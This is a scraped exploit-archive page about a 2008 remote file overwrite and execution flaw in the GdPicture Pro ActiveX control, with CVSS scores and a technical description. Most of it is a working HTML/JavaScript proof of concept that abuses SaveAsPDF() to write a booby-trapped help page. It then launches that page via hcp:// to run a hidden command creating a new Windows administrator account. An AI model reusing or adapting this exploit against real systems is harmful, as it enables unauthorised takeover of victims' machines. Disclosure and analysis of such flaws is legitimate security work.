GdPicture Pro ActiveX (gdpicture4s.ocx) File Overwrite / Exec Exploit

2008-10-07 / 2008-10-08
Credit: EgiX
Risk: High
Local: No
Remote: Yes
CWE: CWE-264

CVSS Base Score: 9.3/10
Impact Subscore: 10/10
Exploitability Subscore: 8.6/10
Exploit range: Remote
Attack complexity: Medium
Authentication: No required
Confidentiality impact: Complete
Integrity impact: CompleteAvailability impact: Complete

<!----- GdPicture Pro ActiveX (gdpicture4s.ocx) Remote File Overwrite / Execution Exploit --- author...: EgiX mail.....: n0b0d13s[at]gmail[dot]com link.....: ProgID...: GdPicture4S.Imaging Description: SaveAsPDF() method allow to create / overwrite file through sFilePath argument. By using other arguments, such as sTitle, an attacker could be inject html code and execute it using the hcp:// protocol (tecnique discovered by rgod). Also GdPicturePro5.Imaging is prone to this vulnerability, but it doesn't implements the IObjectSafety interface. Tested on Windows XP SP2 with IE 6/7 Object safety report: Report for Clsid: {E8512363-3581-42EF-A43D-990E7935C8BE} RegKey Safe for Script: False RegKey Safe for Init: False Implements IObjectSafety: True IDisp Safe: Safe for untrusted: caller,data IPStorage Safe: Safe for untrusted: caller,data [*] A special thanks goes to shinnai, for his patience :) --> <object classid='clsid:E8512363-3581-42EF-A43D-990E7935C8BE' id='test'></object> <script language='javascript'> var cmd = "cmd /c net user test test /add & net localgroup Administrators test /add"; var outFile = "c:\\windows\\pchealth\\helpctr\\system\\errors\\badurl.htm"; var BMP = "\x42\x4d\x42\x00\x00\x00\x00\x00\x00\x00\x3e" + "\x00\x00\x00\x28\x00\x00\x00\x01\x00\x00\x00" + "\x01\x00\x00\x00\x01\x00\x01\x00\x00\x00\x00" + "\x00\x04\x00\x00\x00\x00\x00\x00\x00\x00\x00" + "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" + "\x00\x00\x00\xff\xff\xff\x00\x80\x00\x00\x00"; var sc= "<object classid='clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8'id='wsh'><\/object>" + "<script language='vbscript'>wsh.Run \"" + cmd + "\", SW_HIDE<\/script>"; test.SetLicenseNumber("0317955669879948884162456"); // only to avoid the nag screen test.CreateImageFromString(BMP); if (test.SaveAsPDF(outFile, sc, "", "", "")) location.href = "hcp://system/errors/badurl.htm"; </script>


Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is inquarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }}CET+1
{{ x.comment }}

Copyright 2020,


Back to Top